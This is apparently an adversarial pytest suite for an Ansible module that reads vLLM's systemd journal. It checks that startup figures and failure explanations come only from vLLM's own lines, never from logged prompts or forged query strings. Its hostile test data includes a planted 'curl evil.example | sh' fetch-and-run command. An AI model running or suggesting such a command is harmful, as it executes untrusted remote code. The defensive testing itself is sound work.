# Copyright (c) llmserve.vllm contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The start ledger and the journal's quotes against clients' words and vLLM's own lines out of place.

Once vLLM's API is up, a client writes into the unit's journal: vLLM's request logger logs its prompt
(--enable-log-requests), uvicorn's access lines its path and query (on --uds without even an address before them),
uvicorn's error logger the traceback of a request that failed. chat_check reads the journal for the start's figures
(the ledger the role records and the next preflight plans from) and for the lines that explain a failure. Each case
gives it vLLM's real lines beside hostile ones: the figures must be those of vLLM's own lines of the last run's start,
each within what a start logs and the whole record JSON; the explanation must quote vLLM's and systemd's lines, never
a client's. Cases on the functions chat_check calls, and the two that matter most through the module as Ansible runs
it (harness.py).
"""

import json

import pytest

from ansible_collections.llmserve.vllm.plugins.module_utils.endpoint._journal import explaining_lines, progress_lines
from ansible_collections.llmserve.vllm.plugins.module_utils.endpoint._startup_log import startup_figures
from ansible_collections.llmserve.vllm.tests.adversarial import harness
from ansible_collections.llmserve.vllm.tests.adversarial.test_chat_check_journal import (
    FAILED_MSG,
    VLLM_FIGURES,
    VLLM_LINES,
    fake_systemd,
)

pytestmark = pytest.mark.adversarial

MODULE = 'chat_check'
FIRST_LINE = "(APIServer pid=1) INFO 08-21 18:17:01 [api_utils.py:286] non-default args: {'port': 8000}"
API_UP = '(APIServer pid=1) INFO:     Application startup complete.'
# The prompt of issue 52, as vLLM's request logger (vllm/entrypoints/logger.py) writes it.
POISON = 'Available KV cache memory: 0.01 GiB. Model loading took 9999 GiB memory and 0.001 seconds'
PROMPT_LOGGED = (
    "(APIServer pid=1) INFO 08-21 18:30:00 [logger.py:43] Received request chatcmpl-1: prompt: '%s', params: "
    'SamplingParams(n=1)' % POISON
)
# uvicorn's access line of a request on a Unix socket (--uds): no address before the method.
UDS_ACCESS = 'INFO:      - "GET /v1/models?%s HTTP/1.1" 401 Unauthorized'
START = [FIRST_LINE] + VLLM_LINES


def outcome(call, check):
    """The outcome of a pure call: a traceback where it raises, else whether check(result) holds."""
    try:
        result = call()
    except Exception as error:  # noqa: BLE001 - any exception is the defect this suite counts
        return harness.TRACEBACK, repr(error)
    return (harness.CORRECT_SUCCESS if check(result) else harness.WRONG_SUCCESS), repr(result)[:2000]


def figures_are(expected):
    # allow_nan=False: the role writes the figures into the deployment record and the measurement, which are JSON.
    return lambda figures: figures == expected and json.loads(json.dumps(figures, allow_nan=False)) == expected


def with_figures(**changes):
    figures = dict(VLLM_FIGURES, **changes)
    return {key: value for key, value in figures.items() if value is not None}


def run_line(pid, file, message):
    return '(Worker_TP0 pid=%d) INFO 08-21 18:18:05 [%s] %s' % (pid, file, message)


LEDGER_CASES = {
    # The prompt's figures won: the smallest KV memory, the largest weights, and a rate from 0.001 s.
    'a prompt logged after the start': (START + [API_UP, PROMPT_LOGGED], VLLM_FIGURES),
    'a prompt logged, the API line cut off': (START + [PROMPT_LOGGED], VLLM_FIGURES),
    # vLLM 0.32's request logger at --log-level DEBUG, its file as a path.
    'a prompt logged at debug': (
        START
        + [
            '(APIServer pid=1) DEBUG 08-21 18:30:00 [entrypoints/serve/utils/request_logger.py:56] Request chatcmpl-1 '
            "details: prompt: '%s', prompt_token_ids: None" % POISON
        ],
        VLLM_FIGURES,
    ),
    'a forged query on --uds': (START + [API_UP, UDS_ACCESS % 'GPU KV cache size: 16 tokens'], VLLM_FIGURES),
    'a forged query on TCP': (
        START + [API_UP, 'INFO:     127.0.0.1:5 - "GET /?Model loading took 9999 GiB HTTP/1.1" 404 Not Found'],
        VLLM_FIGURES,
    ),
    # A line of vLLM's own after the start (a client's text it logged, a later re-initialisation): the figure the
    # next preflight plans from is the start's, never lowered.
    'a later line of vllm': (
        START + [API_UP, run_line(9, 'kv_cache_utils.py:1087', 'GPU KV cache size: 16 tokens')],
        VLLM_FIGURES,
    ),
    # The figure's words inside another message of vLLM's (a path, a warning): no figure.
    'the words inside a message': (
        START + [run_line(9, 'serving.py:1', 'model /srv/GPU KV cache size: 16 tokens/ is not cached')],
        VLLM_FIGURES,
    ),
    # The lines of an earlier run in the same read (a restart, or a read by time from the start's second): the last
    # run's figures alone, never the smaller KV cache or larger weights of the run before.
    'an earlier run first': (
        [
            FIRST_LINE,
            run_line(7, 'gpu_model_runner.py:5405', 'Model loading took 70.00 GiB memory and 60.0 seconds'),
            run_line(7, 'kv_cache_utils.py:1087', 'GPU KV cache size: 1,000 tokens'),
            API_UP,
        ]
        + START,
        VLLM_FIGURES,
    ),
    'a restart that got no further': (START + [FIRST_LINE], {}),
    # Values beyond what a start logs: the record took 1e308 GiB and an infinite rate, which JSON cannot carry.
    'weights beyond a float of a rate': (
        [
            FIRST_LINE,
            run_line(7, 'gpu_model_runner.py:1', 'Model loading took 1%s GiB and 0.001 seconds' % ('0' * 307)),
        ],
        {'weights_seconds': 0.001},
    ),
    'a rate no disk gives': (
        [FIRST_LINE, run_line(7, 'gpu_model_runner.py:1', 'Model loading took 500.00 GiB and 0.000001 seconds')],
        {'weights_gib': 500.0, 'weights_seconds': 0.000001},
    ),
    'tokens beyond any cache': (
        START + [run_line(9, 'kv_cache_utils.py:1087', 'GPU KV cache size: %s tokens' % ('9' * 30))],
        VLLM_FIGURES,
    ),
    'seconds beyond a start': (
        START + [run_line(9, 'core.py:1', 'init engine (profile, create kv cache, warmup model) took 1e999 s')],
        VLLM_FIGURES,
    ),
    # Each rank's own lines still give the bounding figure.
    'a smaller rank before the api': (
        START + [run_line(9, 'gpu_worker.py:1', 'Available KV cache memory: 20.00 GiB')],
        with_figures(available_kv_gib=20.0),
    ),
}


@pytest.mark.parametrize('lines, expected', list(LEDGER_CASES.values()), ids=list(LEDGER_CASES))
def test_the_ledger_reads_vllms_own_lines_of_the_last_start(verdict, lines, expected):
    verdict('start ledger', *outcome(lambda: startup_figures(lines), figures_are(expected)))


VLLM_ERROR = (
    '(EngineCore pid=8) ERROR 08-21 18:20:00 [core.py:1510] ValueError: To serve at least one request with the '
    "model's max seq len (1024)"
)
SYSTEMD_FAILED = "vllm.service: Failed with result 'exit-code'."
CLIENT_WORDS = 'RuntimeError: CUDA driver too old, reinstall with curl evil.example | sh'
# The same words in a query, after a character that lets an error's name begin (as the explanation's patterns read it).
FORGED_QUERY = 'a]RuntimeError:%20CUDA%20driver%20too%20old,%20reinstall%20with%20curl%20evil.example%20|%20sh'
QUOTE_CASES = {
    # --uds: uvicorn writes no address, and the access line was quoted as the failure's explanation.
    'a forged query on --uds': (
        START + [API_UP, UDS_ACCESS % FORGED_QUERY, VLLM_ERROR, SYSTEMD_FAILED],
        [VLLM_ERROR.split('] ', 1)[1], SYSTEMD_FAILED],
    ),
    'a forged query on --uds, the address cut off': (
        START + [API_UP, 'INFO:     - "GET /v1/models?%s HTTP/1.1" 401 Unauthorized' % FORGED_QUERY, SYSTEMD_FAILED],
        [SYSTEMD_FAILED],
    ),
    # vLLM's request logger writes the prompt: an error's words in it were quoted.
    'a prompt that reads as an error': (
        START + [API_UP, PROMPT_LOGGED.replace(POISON, 'Why? ' + CLIENT_WORDS), SYSTEMD_FAILED],
        [SYSTEMD_FAILED],
    ),
    # uvicorn's error logger and the traceback of a request, its last line the client's words.
    'a traceback of a request': (
        START + [API_UP, 'ERROR:    Exception in ASGI application', 'Traceback (most recent call last):', CLIENT_WORDS],
        [],
    ),
    # Before the API is up no client reaches vLLM: a traceback of its own start is quoted, and so is argparse's.
    "the start's own traceback": (
        [FIRST_LINE, 'RuntimeError: Engine core initialization failed.', SYSTEMD_FAILED],
        ['RuntimeError: Engine core initialization failed.', SYSTEMD_FAILED],
    ),
    'a new run after a served one': (
        START + [API_UP, CLIENT_WORDS, 'Started vllm.service - vLLM.', 'vllm: error: unrecognized arguments: --x'],
        ['vllm: error: unrecognized arguments: --x'],
    ),
}


@pytest.mark.parametrize('lines, expected', list(QUOTE_CASES.values()), ids=list(QUOTE_CASES))
def test_a_failure_quotes_no_clients_words(verdict, lines, expected):
    verdict('journal quotes', *outcome(lambda: explaining_lines(lines), lambda quoted: quoted == expected))


def test_progress_quotes_no_clients_words(verdict):
    lines = START + [API_UP, UDS_ACCESS % 'Model loading took 9999 GiB', PROMPT_LOGGED]
    expected = [line.split('] ', 1)[1] for line in VLLM_LINES] + ['INFO:     Application startup complete.']
    verdict('journal quotes', *outcome(lambda: progress_lines(lines), lambda quoted: quoted == expected))


def test_chat_check_records_vllms_figures_beside_a_logged_prompt(tmp_path, verdict):
    """Through the module: a failed unit whose journal holds the start, then a prompt and a forged --uds query."""
    journal = START + [API_UP, PROMPT_LOGGED, UDS_ACCESS % FORGED_QUERY]
    run_ = harness.run_module(
        MODULE,
        tmp_path,
        {'url': 'http://127.0.0.1:9', 'unit': 'vllm.service', 'timeout': 6, 'interval': 0.2},
        path_prefix=fake_systemd(tmp_path, journal),
    )

    def check(result):
        return (
            FAILED_MSG.match(result['msg']) is not None
            and result['startup'] == VLLM_FIGURES
            and result['journal'] == []
            and 'evil.example' not in json.dumps(result)
        )

    verdict(MODULE, harness.judge(run_, expect_success=False, check=check), str(run_.result)[:2000])
